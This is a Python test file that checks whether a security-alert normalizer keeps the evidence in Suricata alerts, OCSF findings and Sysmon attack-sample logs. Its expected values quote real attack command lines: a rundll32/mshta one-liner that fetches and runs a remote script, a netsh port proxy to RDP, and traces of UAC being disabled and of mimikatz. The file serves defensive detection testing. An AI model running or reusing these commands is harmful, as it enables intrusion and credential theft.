"""Real samples from a third source per format (issue 16): Suricata alerts Tenzir ships as test input, the
OCSF findings Tenzir's mapping writes for them, and Sysmon logs of EVTX-ATTACK-SAMPLES — each accepted
with the evidence an analyst needs, and the evidence they showed lost (see the ORIGIN notes)."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from flows.normalize import Format, NormalizeError, conformance, normalize

from ._samples import SYSMON, evidence, indicators, sample
from .test_real_alerts import _check

SURICATA: list[tuple[str, int, dict[str, Any]]] = [
    (
        "suricata/tenzir-library-m57-alerts.ndjson",  # decoder alert: no flow, no address
        1,
        {
            "time": 1258531220093,
            "ip": None,
            "title": "SURICATA Ethertype unknown",
            "severity": 2,
            "uid": "-:1:2200121:2009-11-18T08:00:20.093410Z",
        },
    ),
    (
        "suricata/tenzir-library-m57-alerts.ndjson",  # Suricata 8 DNS v3: dns.queries[]
        2,
        {
            "time": 1258535650506,
            "ip": "192.168.1.104",
            "indicators": {("domain", "wpad.m57.biz")},
            "query.hostname": ["wpad.m57.biz"],
            "query.type": ["A"],
            "dst_endpoint.ip": ["192.168.1.1"],
            "connection_info.community_uid": ["1:7a1+QSQIMks82cZhgk0hAeH2ykE="],
        },
    ),
    (
        "suricata/tenzir-library-m57-alerts.ndjson",  # to_client from port 80: the client is the host
        3,
        {
            "time": 1258562679652,
            "ip": "192.168.1.104",
            "indicators": {
                ("url", "http://ad.yieldmanager.com/pixel?id=579499&t=2"),
                ("domain", "ad.yieldmanager.com"),
                ("ipv4", "76.13.211.223"),
            },
            "src_endpoint.port": [1411],
            "dst_endpoint.port": [80],
            "http_request.referrer": ["http://finance.yahoo.com/"],
            "http_response.code": [200],
            "http_response.content_type": ["image/gif"],
        },
    ),
    (
        "suricata/tenzir-library-m57-alerts.ndjson",  # ET 2011582, transaction 0
        4,
        {
            "time": 1258561667719,
            "ip": "192.168.1.105",
            "severity": 3,
            "indicators": {("url", "http://dl.javafx.com/javafx-cache.jnlp"), ("ipv4", "72.5.123.29")},
            "http_request.user_agent": ["JNLP/6.0 javaws/1.6.0_16 (b01) Java/1.6.0_16"],
            "http_response.code": [304],
        },
    ),
    (
        "suricata/tenzir-library-m57-alerts.ndjson",  # same flow, transaction 1: no response yet
        5,
        {
            "time": 1258561670083,
            "indicators": {("url", "http://dl.javafx.com/1.2/javafx-rt.jnlp")},
            "http_response.code": [],
            "traffic.bytes_out": [1065],
        },
    ),
]

OCSF: list[tuple[str, int, dict[str, Any]]] = [
    (
        "ocsf/tenzir-library-suricata-m57.ndjson",  # the queried name is in evidences[].query
        1,
        {
            "time": 1258535650506,
            "title": "ET INFO Observed DNS Query to .biz TLD",
            "severity": 3,
            "indicators": {("domain", "wpad.m57.biz")},
            "src_endpoint.ip": ["192.168.1.104"],
            "connection_info.community_uid": ["1:7a1+QSQIMks82cZhgk0hAeH2ykE="],
        },
    ),
    (
        "ocsf/tenzir-library-suricata-m57.ndjson",  # the URL is in evidences[].http_request.url
        2,
        {
            "time": 1258561670083,
            "indicators": {
                ("url", "http://dl.javafx.com/1.2/javafx-rt.jnlp"),
                ("domain", "dl.javafx.com"),
                ("ipv4", "72.5.123.29"),
            },
            "http_request.user_agent": ["JNLP/6.0 javaws/1.6.0_16 (b01) Java/1.6.0_16"],
        },
    ),
    (
        "ocsf/tenzir-library-suricata-m57.ndjson",
        3,
        {
            "time": 1258561667719,
            "indicators": {("url", "http://dl.javafx.com/javafx-cache.jnlp")},
            "http_response.code": [304],
        },
    ),
    (
        "ocsf/tenzir-library-suricata-m57.ndjson",
        4,
        {
            "time": 1258562679652,
            "severity": 2,
            "indicators": {("url", "http://ad.yieldmanager.com/pixel?id=579499&t=2")},
            "http_request.referrer": ["http://finance.yahoo.com/"],
            "src_endpoint.ip": ["192.168.1.104"],
        },
    ),
    (
        "ocsf/tenzir-library-suricata-m57.ndjson",  # no evidence at all: still an alert
        5,
        {"time": 1258531220093, "title": "SURICATA Ethertype unknown", "severity": 2},
    ),
]

SYSMON_CASES: list[tuple[str, int, dict[str, Any]]] = [
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # mshta fetching a script, spawned by rundll32
        1,
        {
            "time": 1558452777867,
            "host": "IEWIN7",
            "uid": "IEWIN7:4127",
            "indicators": {
                ("url", "https://hotelesms.com/talsk.txt"),
                ("sha256", "949485ba939953642714ae6831d7dcb261691cac7cbb8c1a9220333801f60820"),
            },
            "process.user.name": [r"IEWIN7\IEUser"],
            "process.parent_process.file.path": [r"C:\Windows\System32\rundll32.exe"],
            "process.parent_process.cmd_line": [
                'rundll32.exe  javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
                'h=new%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);'
            ],
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # Sysmon 3: mshta's connection out
        2,
        {
            "indicators": {("ipv4", "108.179.232.58"), ("domain", "gator4243.hostgator.com")},
            "dst_endpoint.port": [443],
            "src_endpoint.ip": ["10.0.2.15"],
            "process.file.path": [r"C:\Windows\System32\mshta.exe"],
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # persistence: a scheduled task running mshta
        3,
        {
            "indicators": {("url", "https://hotelesms.com/Injection.txt")},
            "process.parent_process.file.path": [r"C:\Windows\System32\mshta.exe"],
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # the task file written
        4,
        {
            "file.path": [r"C:\Windows\System32\Tasks\MSOFFICE_"],
            "indicators": {("file_path", r"C:\Windows\System32\Tasks\MSOFFICE_")},
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # Sysmon 7: side-loaded DLL, its own hashes
        5,
        {
            "time": 1602952028070,
            "host": "MSEDGEWIN10",
            "file.path": [r"C:\ProgramData\Intel\wwlib.dll"],
            "process.file.path": [r"C:\ProgramData\Intel\CV.exe"],
            "indicators": {
                ("sha256", "746265b89a195198b1783669d966dbd31f0fd3d49101ad2da18453583f1914c3"),
                ("md5", "443cb0f0b428505dd186861b7d4ce1c4"),
            },
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # netsh port proxy to RDP
        6,
        {
            "process.cmd_line": ["netsh  I p a v l=8001 listena=1.2.3.4 connectp=3389 c=1.2.3.5"],
            "process.parent_process.file.path": [r"C:\Windows\System32\cmd.exe"],
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # the PortProxy value it wrote
        7,
        {
            "reg_value.path": [r"HKLM\System\CurrentControlSet\services\PortProxy\v4tov4\tcp"],
            "reg_value.name": ["1.2.3.4/8001"],
            "reg_value.data": ["1.2.3.5/3389"],
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # UAC switched off
        8,
        {
            "host": "DC1.insecurebank.local",
            "uid": "DC1.insecurebank.local:18619",
            "reg_value.name": ["EnableLUA"],
            "reg_value.data": ["DWORD (0x00000000)"],
            "indicators": {
                (
                    "registry_value",
                    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\policies\system\EnableLUA",
                )
            },
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # mimikatz memssp log written by lsass
        9,
        {
            "file.path": [r"C:\Windows\System32\mimilsa.log"],
            "process.file.path": [r"C:\Windows\system32\lsass.exe"],
        },
    ),
    (
        "sysmon/sbousseaden-evtx-attack-samples.ndjson",  # powershell fetching Invoke-Mimikatz
        10,
        {
            "time": 1556808533950,
            "indicators": {("ipv4", "151.101.36.133")},
            "dst_endpoint.port": [443],
            "process.user.name": [r"IEWIN7\IEUser"],
        },
    ),
]


def _ids(cases: list[tuple[str, int, dict[str, Any]]]) -> list[str]:
    return [f"{name}:{line}" for name, line, _ in cases]


@pytest.mark.parametrize(("name", "line", "expected"), SURICATA, ids=_ids(SURICATA))
def test_tenzirs_suricata_alerts_keep_their_evidence(name: str, line: int, expected: dict) -> None:
    _check(sample(name, line), expected, Format.SURICATA)


@pytest.mark.parametrize(("name", "line", "expected"), OCSF, ids=_ids(OCSF))
def test_tenzirs_ocsf_findings_keep_their_evidence(name: str, line: int, expected: dict) -> None:
    _check(sample(name, line), expected, Format.OCSF)


@pytest.mark.parametrize(("name", "line", "expected"), SYSMON_CASES, ids=_ids(SYSMON_CASES))
def test_evtx_attack_samples_keep_their_evidence_through_a_mapping(
    name: str, line: int, expected: dict
) -> None:
    _check(sample(name, line), expected, Format.GENERIC, mapping=SYSMON)


# -- regressions shown by these samples -------------------------------------------------------------------


def test_a_suricata_alert_keeps_the_community_id_and_what_the_server_answered() -> None:
    # Lost before: the Community ID (the pivot to Zeek and firewall logs), the referrer, the status.
    report = conformance(sample("suricata/tenzir-library-m57-alerts.ndjson", 3), "demo")

    assert {"community_id", "http.http_refer", "http.status", "http.http_content_type"} <= set(
        report.understood
    )
    assert not {"community_id", "http.http_refer", "http.status"} & set(report.ignored)


def test_a_suricata_dns_alert_keeps_the_record_type_asked_for() -> None:
    raw = sample("suricata/tenzir-library-m57-alerts.ndjson", 2)
    older = copy.deepcopy(raw)  # Suricata <= 7 writes the query as dns.query[] with rrtype
    older["dns"] = {"query": [{"rrname": "wpad.m57.biz", "rrtype": "TXT"}]}

    assert evidence(normalize(raw, "demo").alert, "query.type") == ["A"]
    assert evidence(normalize(older, "demo").alert, "query.type") == ["TXT"]


def test_an_ocsf_findings_dns_query_and_request_url_become_indicators() -> None:
    dns = normalize(sample("ocsf/tenzir-library-suricata-m57.ndjson", 1), "demo")
    web = normalize(sample("ocsf/tenzir-library-suricata-m57.ndjson", 4), "demo")

    assert ("domain", "wpad.m57.biz") in indicators(dns.alert)
    assert "observables" not in dns.document  # read from the evidence itself, the finding left as sent
    assert ("url", "http://ad.yieldmanager.com/pixel?id=579499&t=2") in indicators(web.alert)
    # The internal client is not an indicator.
    assert not any(value == "192.168.1.104" for _, value in indicators(web.alert))


def test_findings_keyed_on_their_rule_are_told_apart_and_a_resend_is_still_a_duplicate() -> None:
    # Tenzir writes the signature id as finding_info.uid: two alerts of one rule would be one duplicate.
    first = normalize(sample("ocsf/tenzir-library-suricata-m57.ndjson", 2), "demo")
    second = normalize(sample("ocsf/tenzir-library-suricata-m57.ndjson", 3), "demo")
    again = normalize(sample("ocsf/tenzir-library-suricata-m57.ndjson", 2), "demo")

    assert first.alert.source_uid != second.alert.source_uid
    assert first.alert.source_uid == again.alert.source_uid == "2011582:997781178181801:1258561670083"
    assert first.document["finding_info"]["uid_alt"] == "2011582"


def test_a_finding_with_its_own_uid_keeps_it() -> None:
    raw = sample("ocsf/tenzir-library-suricata-m57.ndjson", 2)
    raw["finding_info"]["uid"] = "a1b2c3"

    document = normalize(raw, "demo").document

    assert document["finding_info"]["uid"] == "a1b2c3" and "uid_alt" not in document["finding_info"]


@pytest.mark.parametrize(
    ("evidences", "count"),
    [
        (
            [
                {"query": "wpad"},
                {"query": {"hostname": 5}},
                {"http_request": {"url": ["x"]}},
                {"http_request": 7},
            ],
            0,
        ),
        ([{"query": {"hostname": f"h{n}.example"}} for n in range(900)], 900),
    ],
    ids=["odd-shapes", "more-than-the-model-holds"],
)
def test_hostile_evidences_do_not_break_an_ocsf_finding(evidences: list[Any], count: int) -> None:
    raw = sample("ocsf/tenzir-library-suricata-m57.ndjson", 5)
    raw["evidences"] = evidences
    raw["observables"] = [{"name": "x", "type_id": 1, "value": f"o{n}.example"} for n in range(990)]

    alert = normalize(raw, "demo").alert

    # The sender's 990 are kept as sent; every queried name is read from the evidences besides.
    assert len(alert.observables) == 990
    assert ("domain", "o0.example") in indicators(alert)
    queried = [v for _, v in indicators(alert) if v.startswith("h") and v.endswith(".example")]
    assert len(queried) == count


def test_an_evidence_that_is_no_object_is_refused_naming_the_field() -> None:
    raw = sample("ocsf/tenzir-library-suricata-m57.ndjson", 1)
    raw["evidences"] = [*raw["evidences"], "text"]

    with pytest.raises(NormalizeError) as caught:
        normalize(raw, "demo")
    assert caught.value.field.startswith("evidences")


def test_observables_of_odd_shapes_are_left_to_the_validator() -> None:
    raw = sample("ocsf/tenzir-library-suricata-m57.ndjson", 1)
    raw["observables"] = [{"name": "x", "type_id": [1], "value": {"a": 1}}]

    with pytest.raises(NormalizeError) as caught:
        normalize(raw, "demo")
    assert caught.value.field.startswith("observables")
